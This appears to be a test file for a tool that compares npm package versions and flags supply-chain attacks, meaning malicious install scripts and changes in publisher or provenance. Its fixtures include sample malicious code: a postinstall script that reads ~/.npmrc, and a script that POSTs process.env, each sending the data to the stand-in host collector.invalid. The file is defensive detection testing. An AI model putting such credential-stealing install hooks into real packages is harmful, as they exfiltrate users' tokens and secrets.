import { describe, expect, it } from 'vitest';
import { readTarball } from '../tarball/read-tarball.js';
import { makeTgz, type TestEntry } from '../tarball/testdata/make-tarball.js';
import { analyzeSide } from './analyze-side.js';
import { diffPackages } from './diff-packages.js';
import { gradeTransitions } from './metadata/grading.js';
import { metadataTransitions } from './metadata/transitions.js';

const manifest = (version: string, extra: Record<string, unknown> = {}): TestEntry => ({
  name: 'package/package.json',
  content: JSON.stringify({ name: 'xmlrpc-fixture', version, main: 'index.js', ...extra }),
});

const CLEAN_INDEX = [
  "const { parse } = require('./lib/parse.js');",
  'module.exports = function call(xml) {',
  '  return parse(xml);',
  '};',
].join('\n');
const PARSE = [
  'exports.parse = function parse(xml) {',
  "  return String(xml).replace(/<[^>]+>/g, ' ').trim();",
  '};',
].join('\n');

/** Reads a test-built tarball the way the CLI does and analyses it. */
const side = async (entries: TestEntry[]) => {
  const contents = await readTarball(await makeTgz(entries), { source: 'test.tgz' });
  return analyzeSide(contents.files, {}, { archive: contents.problems });
};

const clean = (version: string) =>
  side([
    manifest(version),
    { name: 'package/index.js', content: CLEAN_INDEX },
    { name: 'package/lib/parse.js', content: PARSE },
  ]);

describe('diffPackages', () => {
  it('calls an xmlrpc-style turn (postinstall + ~/.npmrc sent to a collector) malicious', async () => {
    const from = await clean('1.0.0');
    const to = await side([
      manifest('1.0.1', { scripts: { postinstall: 'node lib/telemetry.js' } }),
      { name: 'package/index.js', content: CLEAN_INDEX },
      { name: 'package/lib/parse.js', content: PARSE },
      {
        name: 'package/lib/telemetry.js',
        content: [
          "const fs = require('fs');",
          "const os = require('os');",
          "const path = require('path');",
          "const https = require('https');",
          "const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');",
          "const req = https.request('https://collector.invalid/t', { method: 'POST' });",
          'req.end(token);',
        ].join('\n'),
      },
    ]);
    const diff = diffPackages(from, to);
    expect(diff.transition.verdict).toBe('malicious');
    expect(diff.from.verdict).toBe('clean');
    expect(diff.delta.installScripts).toEqual([
      {
        script: 'postinstall',
        to: 'node lib/telemetry.js',
        runsFiles: ['lib/telemetry.js'],
      },
    ]);
    expect(diff.delta.hosts).toContain('collector.invalid');
    expect(diff.delta.sensitivePaths.some((p) => p.includes('.npmrc'))).toBe(true);
    expect(diff.delta.added).toEqual(expect.arrayContaining(['install-scripts', 'network']));
    expect(diff.delta.files).toEqual({ added: ['lib/telemetry.js'], removed: [], changed: ['package.json'] });
    expect(diff.transition.evidence.length).toBeGreaterThan(0);
    expect(diff.transition.evidence.every((f) => f.kind === 'threat')).toBe(true);
    expect(diff.transition.reasons[0]).toMatch(/^clean → malicious/);
  });

  it('calls a refactor benign and lists what moved', async () => {
    const from = await clean('1.0.0');
    const to = await side([
      manifest('1.1.0', { dependencies: { 'left-pad': '1.3.0' } }),
      {
        name: 'package/index.js',
        content: "const { parse } = require('./lib/xml.js');\nmodule.exports = (xml) => parse(xml);",
      },
      { name: 'package/lib/xml.js', content: PARSE.replace('function parse', 'function parseXml') },
    ]);
    const diff = diffPackages(from, to);
    expect(diff.transition).toEqual({ verdict: 'benign', reasons: [], evidence: [] });
    expect(diff.delta.files).toEqual({
      added: ['lib/xml.js'],
      removed: ['lib/parse.js'],
      changed: ['index.js', 'package.json'],
    });
    expect(diff.delta.dependencies.added).toEqual([{ name: 'left-pad', field: 'dependencies', to: '1.3.0' }]);
    expect(diff.delta.findings).toEqual([]);
  });

  it('calls an added install script suspicious even when its code looks harmless', async () => {
    const from = await clean('1.0.0');
    const to = await side([
      manifest('1.0.1', { scripts: { postinstall: 'node lib/hello.js' } }),
      { name: 'package/index.js', content: CLEAN_INDEX },
      { name: 'package/lib/parse.js', content: PARSE },
      { name: 'package/lib/hello.js', content: "console.log('thanks for installing');" },
    ]);
    const diff = diffPackages(from, to);
    expect(diff.transition.verdict).toBe('suspicious');
    expect(diff.transition.reasons).toContain('install script added: postinstall');
  });

  it('claims no threat new on a file from did not finish analysing and to ships unchanged', async () => {
    const thief = {
      name: 'package/lib/telemetry.js',
      content: [
        "const https = require('https');",
        'const body = JSON.stringify(process.env);',
        "const req = https.request('https://collector.invalid/e', { method: 'POST' });",
        'req.end(body);',
      ].join('\n'),
    };
    const entries = (version: string) => [
      manifest(version),
      { name: 'package/index.js', content: CLEAN_INDEX },
      thief,
    ];
    // `from`'s time budget ran out before its code was read (a loaded machine, a huge package).
    const fromContents = await readTarball(await makeTgz(entries('1.0.0')), { source: 'from.tgz' });
    const from = analyzeSide(fromContents.files, {}, { timeBudgetMs: 0 });
    expect(from.facts.files.find((f) => f.file === 'lib/telemetry.js')?.factsTruncated).toBe(true);
    const to = await side(entries('1.0.1'));
    const threat = (f: { kind: string; file?: string }) =>
      f.kind === 'threat' && f.file === 'lib/telemetry.js';
    expect(to.assessment.findings.some(threat)).toBe(true);
    const diff = diffPackages(from, to);
    expect(diff.delta.findings).toEqual([]);
    expect(diff.transition.verdict).toBe('benign');
    // Changed in `to`, the same findings are new.
    const edited = { ...thief, content: `${thief.content}\n// v2` };
    const changed = await side([...entries('1.0.1').slice(0, 2), edited]);
    expect(diffPackages(from, changed).delta.findings.some(threat)).toBe(true);
  });

  it('does not report a threat already present in from as new', async () => {
    const thief = [
      manifest('2.0.0', { scripts: { postinstall: 'node lib/telemetry.js' } }),
      {
        name: 'package/lib/telemetry.js',
        content: [
          "const https = require('https');",
          'const body = JSON.stringify(process.env);',
          "const req = https.request('https://collector.invalid/e', { method: 'POST' });",
          'req.end(body);',
        ].join('\n'),
      },
    ];
    const from = await side(thief);
    const to = await side([...thief, { name: 'package/README.md', content: '# docs' }]);
    expect(from.assessment.verdict).toBe('malicious');
    const diff = diffPackages(from, to);
    expect(diff.delta.findings).toEqual([]);
    expect(diff.transition.verdict).toBe('benign');
  });

  it('calls unchanged code suspicious when a new publisher also dropped provenance', async () => {
    const release = (version: string, publisher: string, provenance: boolean) => ({
      name: 'xmlrpc-fixture',
      version,
      _npmUser: { name: publisher },
      dist: provenance
        ? { attestations: { provenance: { predicateType: 'https://slsa.dev/provenance/v1' } } }
        : {},
    });
    const packument = {
      name: 'xmlrpc-fixture',
      versions: { '1.0.0': release('1.0.0', 'alice', true), '1.0.1': release('1.0.1', 'mallory', false) },
    };
    const metadata = gradeTransitions(metadataTransitions(packument, '1.0.0', '1.0.1'));
    const diff = diffPackages(await clean('1.0.0'), await clean('1.0.1'), metadata);
    expect(diff.delta.findings).toEqual([]);
    expect(diff.metadata.map((m) => [m.kind, m.severity])).toEqual(
      expect.arrayContaining([
        ['publisher-change', 'high'],
        ['trust-downgrade', 'high'],
      ]),
    );
    expect(diff.transition.verdict).toBe('suspicious');
    expect(diff.transition.reasons).toHaveLength(2);
    // The same code without the metadata is no turn at all.
    expect(diffPackages(await clean('1.0.0'), await clean('1.0.1')).transition.verdict).toBe('benign');
  });
});
